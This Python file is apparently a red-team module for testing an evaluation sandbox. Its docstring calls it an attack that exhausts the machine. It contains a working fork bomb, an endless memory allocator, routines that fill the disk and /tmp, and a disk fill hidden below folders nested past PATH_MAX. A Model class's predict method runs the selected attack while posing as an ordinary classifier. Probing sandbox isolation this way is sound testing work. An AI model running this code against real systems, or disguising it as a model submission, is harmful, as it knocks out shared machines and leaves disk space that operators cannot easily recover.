"""Exhaust the machine, as targets.json says: a fork bomb, a memory hog, a huge file, a
disk filled file by file (also below folders nested too deep for any path), a /tmp filled up. The attack does not catch the failure, as a
runaway submission would not."""

import os

import numpy as np

from attack_common import take, targets

T = targets()
MiB = 1 << 20


def fork_bomb():
    forks = 0
    while forks < 100000:
        try:
            pid = os.fork()
        except OSError as exc:
            take("fork_error", f"{type(exc).__name__}: {exc}")
            break
        if pid == 0:  # each child tries to multiply too, then sleeps
            for _ in range(2):
                try:
                    if os.fork() == 0:
                        break
                except OSError:
                    break
            os.execv("/bin/sleep", ["sleep", "600", T["token"]])
        forks += 1
    take("forks", forks)


def memory_hog():
    with open("/proc/self/oom_score_adj") as fh:
        take("oom_score_adj", fh.read().strip())
    blocks = []
    while True:
        blocks.append(np.ones(64 * MiB, dtype=np.uint8))


def write(path, mb, chunk_mb=8):
    block = b"x" * (chunk_mb * MiB)
    with open(path, "wb") as fh:
        for _ in range(mb // chunk_mb):
            fh.write(block)


def fill_disk():
    for i in range(4096):
        write(f"fill-{i}.bin", 8)


def hide_deep():
    """Fill the disk where no path can reach: below folders nested past PATH_MAX."""
    for _ in range(40):  # 40 x 201 bytes > 4096
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    fill_disk()


ATTACKS = {"fork_bomb": fork_bomb, "memory_hog": memory_hog,
           "huge_file": lambda: write("huge.bin", 4096), "fill_disk": fill_disk,
           "hide_deep": hide_deep,
           "fill_tmp": lambda: write("/tmp/fill.bin", 4096)}


class Model:
    def predict(self, X):
        ATTACKS[T["attack"]]()
        return np.zeros(len(X), dtype=np.int64)
